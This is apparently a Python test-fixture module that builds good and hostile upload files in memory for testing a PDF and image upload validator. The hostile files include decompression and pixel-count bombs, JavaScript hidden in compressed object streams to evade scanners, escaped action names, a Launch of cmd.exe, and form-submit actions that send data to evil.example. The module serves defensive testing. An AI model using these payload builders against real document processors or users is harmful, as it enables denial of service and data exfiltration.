"""Builders of good and hostile upload files for the tests (made in memory, nothing committed)."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image
from pypdf import PdfWriter


def jpeg(size=(600, 800), color=(200, 210, 220)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, color).save(buf, "JPEG", quality=80)
    return buf.getvalue()


def png(size=(300, 400)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, (10, 20, 30)).save(buf, "PNG")
    return buf.getvalue()


def pdf(pages=1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def restricted_pdf() -> bytes:
    """Opens without a password but forbids printing/copying (owner password only)."""
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password="", owner_password="owner", permissions_flag=0, algorithm="AES-128")
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def javascript_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    from pypdf.actions import JavaScript

    writer.add_open_action(JavaScript("app.alert(1);"))
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def png_bomb(width=60000, height=60000) -> bytes:
    """A tiny PNG whose header claims a gigapixel image."""

    def chunk(tag, body):
        return struct.pack(">I", len(body)) + tag + body + struct.pack(">I", zlib.crc32(tag + body) & 0xFFFFFFFF)

    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", zlib.compress(b"\x00" * 64)) + chunk(b"IEND", b"")
    )


def _objects(objects: list[bytes]) -> tuple[io.BytesIO, list[int]]:
    """A PDF header and the objects numbered 1..n; the offsets of each for the cross-reference."""
    out, offsets = io.BytesIO(), []
    out.write(b"%PDF-1.5\n")
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    return out, offsets


def raw_pdf(objects: list[bytes], extra_trailer: bytes = b"") -> bytes:
    """A PDF from object bodies numbered 1..n (1 must be the catalog), with a correct xref table."""
    out, offsets = _objects(objects)
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % o for o in offsets))
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, extra_trailer, xref)
    )
    return out.getvalue()


def stream(data: bytes, dictionary: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), dictionary) + data + b"\nendstream"


_PAGES = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
]


def flate_bomb_pdf(inflated: int, ascii85: bool = False) -> bytes:
    """One page whose content stream inflates to ``inflated`` bytes of zeros (a multiple of 1 MB; optionally
    ASCII85-wrapped too). One raw-deflate block of 1 MB ending in a full flush, repeated: a valid zlib stream
    made in milliseconds instead of compressing the whole size."""
    chunk = b"0" * (1 << 20)
    block = (lambda c: c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH))(zlib.compressobj(9, zlib.DEFLATED, -15))
    adler = 1
    for _ in range(inflated >> 20):
        adler = zlib.adler32(chunk, adler)
    data = (
        b"\x78\xda"
        + block * (inflated >> 20)
        + zlib.compressobj(9, zlib.DEFLATED, -15).flush()
        + struct.pack(">I", adler)
    )
    if ascii85:
        import base64

        return raw_pdf(_PAGES + [stream(base64.a85encode(data) + b"~>", b"/Filter [/ASCII85Decode /FlateDecode]")])
    return raw_pdf(_PAGES + [stream(data, b"/Filter /FlateDecode")])


def scan_pdf_with_unlucky_bytes() -> bytes:
    """An honest one-image scan whose JPEG bytes happen to contain '/JS' and '/Launch' (as compressed data can)."""
    image = jpeg((600, 800))
    image = image[:-2] + b"/JS /Launch /JavaScript" + image[-2:]  # inside the entropy-coded data's tail
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /Im0 5 0 R >> >> >>"
    return raw_pdf(
        _PAGES[:2]
        + [
            page,
            stream(zlib.compress(b"q 595 0 0 842 0 0 cm /Im0 Do Q"), b"/Filter /FlateDecode"),
            stream(
                image,
                b"/Type /XObject /Subtype /Image /Width 600 /Height 800 "
                b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode",
            ),
        ]
    )


def javascript_in_object_stream_pdf() -> bytes:
    """An open action running a script, packed inside a compressed object stream: no '/JS' in the raw bytes."""
    packed = [(5, b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")]
    header = b" ".join(b"%d %d" % (n, sum(len(b) + 1 for _, b in packed[:i])) for i, (n, _) in enumerate(packed))
    body = header + b"\n" + b"\n".join(b for _, b in packed) + b"\n"
    objstm = zlib.compress(body)
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>",
        _PAGES[1],
        _PAGES[2].replace(b" /Contents 4 0 R", b""),
        stream(objstm, b"/Type /ObjStm /N 1 /First %d /Filter /FlateDecode" % (len(header) + 1)),
    ]
    # a cross-reference stream is needed to point object 5 into the object stream (type 2 entry)
    out, offsets = _objects(objects)
    xref_offset = out.tell()
    rows = [struct.pack(">BIH", 0, 0, 65535)] + [struct.pack(">BIH", 1, o, 0) for o in offsets]
    rows.append(struct.pack(">BIH", 2, 4, 0))  # object 5: in object stream 4, index 0
    rows.append(struct.pack(">BIH", 1, xref_offset, 0))  # object 6: the xref stream itself
    data = b"".join(rows)
    out.write(b"6 0 obj\n" + stream(data, b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R") + b"\nendobj\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref_offset)
    assert b"/JS" not in out.getvalue() and b"JavaScript" not in out.getvalue()
    return out.getvalue()


# -- images that declare more pixels than any scan, and actions that reach outside (issue 15) ------------------
def _page_with(
    resources: bytes = b"",
    contents: bytes = b"q Q",
    extra_page: bytes = b"",
    catalog_extra: bytes = b"",
    more: list[bytes] = (),
    contents_dict: bytes = b"",
) -> bytes:
    """Catalog 1, Pages 2, Page 3 (with ``resources`` and ``extra_page``), its content stream 4, then ``more`` (5...)."""
    catalog = b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog_extra
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << %s >> %s >>" % (
        resources,
        extra_page,
    )
    return raw_pdf([catalog, _PAGES[1], page, stream(contents, contents_dict)] + list(more))


def ccitt_image(
    width: int, height: int, data_size: int = 13_000, columns: int | None = None, rows: int | None = None
) -> bytes:
    """An image XObject stream: CCITT G4, ``width`` x ``height`` declared, ``data_size`` bytes of coded data."""
    return stream(
        b"\0" * data_size,
        b"/Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
        b"/BitsPerComponent 1 /Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns %d "
        b"/Rows %d >>" % (width, height, columns or width, rows or height),
    )


def huge_ccitt_pdf(width: int = 100_000, height: int = 100_000) -> bytes:
    """The attack of issue 15: a ~13 KB PDF whose one CCITT image declares 100000 x 100000 (ten gigapixels)."""
    return _page_with(
        b"/XObject << /Im0 5 0 R >>", b"q 595 0 0 842 0 0 cm /Im0 Do Q", more=[ccitt_image(width, height)]
    )


def ccitt_columns_pdf() -> bytes:
    """/Width and /Height say 600 x 800; the CCITT decoder is told /Columns 1000000 (it allocates by those)."""
    return _page_with(
        b"/XObject << /Im0 5 0 R >>", b"/Im0 Do", more=[ccitt_image(600, 800, 2_000, columns=1_000_000, rows=1_000_000)]
    )


def jpeg_header_lies_pdf() -> bytes:
    """/Width 600 /Height 800 in the dictionary, a JPEG whose frame header says 60000 x 60000."""
    real = jpeg((600, 800))
    sof = real.find(b"\xff\xc0")
    forged = real[: sof + 5] + (60000).to_bytes(2, "big") + (60000).to_bytes(2, "big") + real[sof + 9 :]
    return _page_with(
        b"/XObject << /Im0 5 0 R >>",
        b"/Im0 Do",
        more=[
            stream(
                zlib.compress(forged),
                b"/Type /XObject /Subtype /Image /Width 600 /Height 800 "
                b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter [/FlateDecode /DCTDecode]",
            )
        ],
    )


def jpx_header_lies_pdf() -> bytes:
    """A JPEG 2000 codestream whose SIZ segment says 100000 x 100000 (the dictionary says 100 x 100)."""
    siz = (
        b"\xff\x4f\xff\x51"
        + (41).to_bytes(2, "big")
        + b"\0\0"
        + (100_000).to_bytes(4, "big") * 2
        + b"\0" * 8
        + b"\0" * 16
        + b"\0\x01\x07\x01\x01"
    )
    return _page_with(
        b"/XObject << /Im0 5 0 R >>",
        b"/Im0 Do",
        more=[
            stream(
                siz + b"\0" * 64,
                b"/Type /XObject /Subtype /Image /Width 100 /Height 100 "
                b"/ColorSpace /DeviceGray /BitsPerComponent 8 /Filter /JPXDecode",
            )
        ],
    )


def jbig2_page_lies_pdf() -> bytes:
    """A JBIG2 stream whose page information segment asks for a 100000 x 100000 page (dictionary: 100 x 100)."""
    page_info = (100_000).to_bytes(4, "big") * 2 + (300).to_bytes(4, "big") * 2 + b"\x00" + b"\x00\x00"
    segment = (0).to_bytes(4, "big") + bytes((48, 0, 1)) + len(page_info).to_bytes(4, "big") + page_info
    end_of_page = (1).to_bytes(4, "big") + bytes((49, 0, 1)) + (0).to_bytes(4, "big")
    return _page_with(
        b"/XObject << /Im0 5 0 R >>",
        b"/Im0 Do",
        more=[
            stream(
                segment + end_of_page,
                b"/Type /XObject /Subtype /Image /Width 100 /Height 100 "
                b"/ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /JBIG2Decode",
            )
        ],
    )


def image_in_annotation_appearance_pdf() -> bytes:
    """The huge image is drawn by a form XObject that is an annotation's appearance, not by the page."""
    annot = b"<< /Type /Annot /Subtype /Stamp /Rect [0 0 100 100] /AP << /N 6 0 R >> >>"
    form = stream(
        b"/Im0 Do", b"/Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /Im0 7 0 R >> >>"
    )
    return _page_with(extra_page=b"/Annots [5 0 R]", more=[annot, form, ccitt_image(100_000, 100_000, 500)])


def inline_image_pdf(
    width: int = 100_000,
    height: int = 100_000,
    compress: bool = True,
    key_w: bytes = b"/W",
    key_h: bytes = b"/H",
    padding: int = 0,
) -> bytes:
    """A page content stream drawing an inline image (BI ... ID ... EI) of ``width`` x ``height``."""
    content = (
        b"q 595 0 0 842 0 0 cm BI "
        + key_w
        + b" %d" % width
        + b" " * padding
        + b"\n%% a comment\n"
        + key_h
        + b" %d /BPC 1 /IM true /F /CCF /DP << /K -1 /Columns %d >> ID " % (height, width)
        + b"\0" * 200
        + b" EI Q"
    )
    if compress:
        return _page_with(contents=zlib.compress(content), contents_dict=b"/Filter /FlateDecode")
    return _page_with(contents=content)


def inline_image_in_pattern_pdf() -> bytes:
    """The inline image sits in a tiling pattern's content stream (drawn when the page fills with it)."""
    pattern = stream(
        zlib.compress(b"BI /Width 90000 /Height 90000 /BitsPerComponent 1 /ImageMask true ID \0\0 EI"),
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 10 10] /XStep 10 /YStep 10 "
        b"/Resources << >> /Filter /FlateDecode",
    )
    return _page_with(b"/Pattern << /P0 5 0 R >>", b"/Pattern cs /P0 scn 0 0 595 842 re f", more=[pattern])


def many_images_pdf(count: int, side: int = 6000) -> bytes:
    """``count`` distinct CCITT images of ``side`` x ``side`` (36 Mpx each at 6000: each under the per-image bound)."""
    names = b" ".join(b"/Im%d %d 0 R" % (i, 5 + i) for i in range(count))
    draws = b" ".join(b"/Im%d Do" % i for i in range(count))
    return _page_with(b"/XObject << %s >>" % names, draws, more=[ccitt_image(side, side, 64) for _ in range(count)])


def a4_600dpi_scan_pdf() -> bytes:
    """An honest high-resolution scan: one A4 page at 600 dpi (4961 x 7016) declared, JPEG data."""
    return _page_with(
        b"/XObject << /Im0 5 0 R >>",
        b"q 595 0 0 842 0 0 cm /Im0 Do Q",
        more=[
            stream(
                jpeg((496, 701)),
                b"/Type /XObject /Subtype /Image /Width 4961 /Height 7016 "
                b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode",
            )
        ],
    )


OUTWARD_ACTIONS = {
    # where the action sits -> the PDF
    "submit form on open": lambda: _page_with(
        catalog_extra=b"/OpenAction 5 0 R",
        more=[b"<< /Type /Action /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>"],
    ),
    "go-to-remote in a page's additional actions": lambda: _page_with(
        extra_page=b"/AA << /O 5 0 R >>",
        more=[b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) /D [0 /Fit] >>"],
    ),
    "import data from a link annotation": lambda: _page_with(
        extra_page=b"/Annots [5 0 R]",
        more=[b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /ImportData /F (data.fdf) >> >>"],
    ),
    "launch from an outline item": lambda: _page_with(
        catalog_extra=b"/Outlines 5 0 R",
        more=[
            b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
            b"<< /Title (Open me) /Parent 5 0 R /A << /S /Launch /F (cmd.exe) >> >>",
        ],
    ),
    "submit at the end of a /Next chain": lambda: _page_with(
        catalog_extra=b"/OpenAction 5 0 R",
        more=[
            b"<< /S /URI /URI (https://example.jp/) /Next [6 0 R] >>",
            b"<< /S /SubmitForm /F (https://evil.example/) >>",
        ],
    ),
    "submit in a form field's additional actions": lambda: _page_with(
        catalog_extra=b"/AcroForm << /Fields [5 0 R] >>",
        extra_page=b"/Annots [5 0 R]",
        more=[
            b"<< /FT /Tx /T (name) /Type /Annot /Subtype /Widget /Rect [0 0 10 10] /AA << /K << /S /SubmitForm "
            b"/F (https://evil.example/) >> >> >>"
        ],
    ),
    "action type behind an indirect name": lambda: _page_with(
        catalog_extra=b"/OpenAction << /S 5 0 R /F (x) >>", more=[b"/SubmitForm"]
    ),
    "action type spelt with a #-escape": lambda: _page_with(catalog_extra=b"/OpenAction << /S /Submit#46orm /F (x) >>"),
}


def xfa_pdf(template: bytes, as_array: bool = True) -> bytes:
    """An AcroForm whose XFA template packet is ``template`` (Flate-compressed)."""
    packet = stream(zlib.compress(template), b"/Filter /FlateDecode")
    xfa = b"[(template) 5 0 R]" if as_array else b"5 0 R"
    return _page_with(catalog_extra=b"/AcroForm << /Fields [] /XFA %s >>" % xfa, more=[packet])


XFA_SCRIPT = (
    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"><field name="a">'
    b'<event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script>'
    b"</event></field></subform></template>"
)
XFA_SUBMIT = (
    b'<xfa:template xmlns:xfa="http://www.xfa.org/schema/xfa-template/3.3/"><subform><field name="b"><event '
    b'activity="click"><xfa:submit format="xml" target="https://evil.example/"/></event></field></subform>'
    b"</xfa:template>"
)
XFA_PLAIN = (
    b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="f"><field name="a">'
    b"<caption><value><text>Name (describe the script of your name)</text></value></caption></field>"
    b"</subform></template>"
)
